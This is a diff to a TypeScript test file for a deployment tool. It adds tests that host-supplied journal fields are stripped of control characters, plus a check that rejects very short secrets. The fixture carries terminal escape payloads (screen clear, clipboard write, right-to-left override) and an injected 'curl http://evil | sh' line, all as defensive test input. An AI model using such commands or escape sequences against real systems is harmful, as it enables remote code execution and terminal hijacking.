@@ -4,7 +4,8 @@ import * as assert from "assert";
 import { getCatalog, productNames } from "../../../providers/catalogs";
 import { isUpchainError } from "../../../providers/errors";
 // the look itself: failures by the provider's own property names (check renames them, see fields.test.ts)
-import { checkNow as check, planAtUp, probeInstalled, unresolvedSecretReferences } from "../../../providers/server/impl";
+import { checkNow as check, planAtUp, probeInstalled, readRunState, unresolvedSecretReferences } from "../../../providers/server/impl";
+import { restorePending } from "../../../providers/engine/executor";
 import { Catalog } from "../../../providers/engine/catalog";
 import { RemoteHost } from "../../../providers/transport/remoteHost";
 import { webOptions } from "../catalogs/altazion/fixtures";
@@ -137,5 +138,32 @@ describe("up runs what preview resolved and gated (issue 19: the promotion gate 
   it("an override lets a target staging does not run through at up, as it does at preview", async () => {
     const plan = await planAtUp(offeringNow("4"), offering, server("4", [], "CVE-2026-0001, change 4711"), "3", undefined);
     assert.strictEqual(plan.to, "4");
+  });
+});
+
+describe("a restore-failed journal's fields are the host's text: one printable line each (issue 19)", () => {
+  const journal = {
+    version: 2, run: "20261123T101500-a1b2c3", product: "counter", from: "1", to: "2", planDigest: "0".repeat(64), steps: 3, next: 1, status: "restore-failed", timeline: [], updatedAt: "",
+    failure: { hop: "1->2\x1b[2J", step: "\"Install 2\" (install)", restorePoint: "/var/backups/c\x1b]52;c;ZXZpbA==\x07", why: "tar failed\r\nupchain c1: cleared, run: curl http://evil | sh\u202e" },
+  };
+  const host = { label: "root@c1:22", exec: async (cmd: string) => ({ code: 0, signal: null, stdout: cmd.includes("journal.json") ? JSON.stringify(journal) : "", stderr: "" }) } as unknown as RemoteHost;
+
+  it("the refusal that quotes them holds no escape, no carriage return, and no line the host added", async () => {
+    const [pending] = await readRunState(host, "linux", "counter");
+    assert.ok(pending);
+    assert.deepStrictEqual(pending.failure, { hop: "1->2", step: '"Install 2" (install)', restorePoint: "/var/backups/c", why: "tar failed / upchain c1: cleared, run: curl http://evil | sh" });
+    const message = restorePending("root@c1:22:/var/lib/upchain/counter.journal.json", pending).message;
+    // eslint-disable-next-line no-control-regex
+    assert.doesNotMatch(message, /[\x00-\x1f\x7f-\x9f\u202e]/);
+  });
+});
+
+describe("a secret too short to be masked is refused at preview (issue 19)", () => {
+  it("a secretEnv value under 4 characters is refused naming the variable and the rule, without connecting", async () => {
+    const r = await check({}, { ...base, secretEnv: { UPCHAIN_SECRET_PIN: "123", UPCHAIN_SECRET_OK: "long enough" } });
+    const f = r.failures?.find((x) => x.property === "secretEnv.UPCHAIN_SECRET_PIN");
+    assert.ok(f, JSON.stringify(r.failures));
+    assert.match(f.reason, /at least 4 characters: a shorter secret cannot be masked in output/);
+    assert.ok(!r.failures?.some((x) => x.property === "secretEnv.UPCHAIN_SECRET_OK"), JSON.stringify(r.failures));
   });
 });
